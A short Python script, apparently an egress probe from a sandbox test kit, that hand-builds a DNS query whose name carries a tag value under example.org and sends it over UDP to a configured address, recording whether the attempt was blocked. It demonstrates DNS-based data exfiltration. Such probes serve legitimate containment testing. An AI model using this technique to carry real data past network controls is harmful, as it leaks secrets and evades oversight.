"""Carry data out in the name that a DNS query asks for."""

import socket

from kit import WORLD, blocked, tried

label = WORLD["tag"].encode()
question = bytes([len(label)]) + label + b"\x07example\x03org\x00" + b"\x00\x01\x00\x01"
query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + question
try:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as resolver:
        resolver.sendto(query, (WORLD["address"], WORLD["udp"]))
except OSError as error:
    blocked(error)
tried("asked")
